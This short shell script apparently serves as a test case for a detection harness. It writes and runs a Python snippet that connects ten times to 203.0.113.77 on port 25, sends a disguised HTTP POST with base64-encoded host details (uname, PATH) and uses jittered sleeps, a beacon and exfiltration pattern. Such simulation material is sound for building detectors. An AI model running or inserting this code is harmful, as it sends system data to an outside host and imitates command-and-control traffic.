#!/bin/sh
. /opt/case/case.sh

cat >/tmp/b.py <<'END'
import base64, os, random, socket, time
for n in range(10):
    s = socket.create_connection(("203.0.113.77", 25))
    s.sendall(b"POST /sync HTTP/1.1\r\nHost: cdn\r\n\r\n" + base64.b64encode(repr((os.uname(), os.environ.get("PATH"), n)).encode()))
    s.close(); time.sleep(0.5 + random.random() / 3)
END
python3 /tmp/b.py
took_place
